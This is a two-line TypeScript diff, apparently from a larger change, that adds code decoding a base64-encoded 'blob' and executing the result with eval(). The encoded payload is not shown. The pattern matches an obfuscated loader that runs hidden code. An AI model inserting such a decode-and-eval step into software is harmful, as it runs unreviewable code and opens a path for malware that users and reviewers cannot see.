@@ -1,0 +1,2 @@
+const code: string = Buffer.from(blob, 'base64').toString();
+eval(code);
